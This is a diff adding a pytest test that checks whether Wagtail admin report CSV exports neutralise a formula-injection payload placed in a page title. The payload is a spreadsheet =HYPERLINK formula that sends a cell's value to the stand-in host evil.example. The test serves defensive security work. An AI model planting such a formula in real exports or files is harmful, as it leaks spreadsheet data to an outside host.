@@ -300,3 +300,27 @@ def test_copy_to_a_known_parent_still_copies(client, superuser, page_b, unit_b):
 
     assert response.status_code == 302
     assert Page.objects.filter(slug="salinan", depth=page_b.depth).exists()
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?x="&B2,"Lihat")'
+
+
+@pytest.mark.parametrize("report", ["site-history", "workflow"])
+def test_wagtails_report_exports_neutralise_formulas(client, superuser, unit_a, report):
+    page = ContentPageFactory(parent=unit_a, title=FORMULA)
+    revision = page.save_revision(user=superuser)
+    revision.publish(user=superuser)
+    page.locked, page.locked_by = True, superuser
+    page.save()
+    page.get_workflow().start(page, superuser)
+    client.force_login(superuser)
+
+    response = client.get(f"/admin/reports/{report}/?export=csv")
+
+    body = b"".join(
+        response.streaming_content if response.streaming else [response.content]
+    )
+    text = body.decode("utf-8-sig")
+    assert FORMULA.replace('"', '""') in text
+    assert f"\n{FORMULA}" not in text and f",{FORMULA}" not in text
+    assert f'"{FORMULA.replace(chr(34), chr(34) * 2)}' not in text
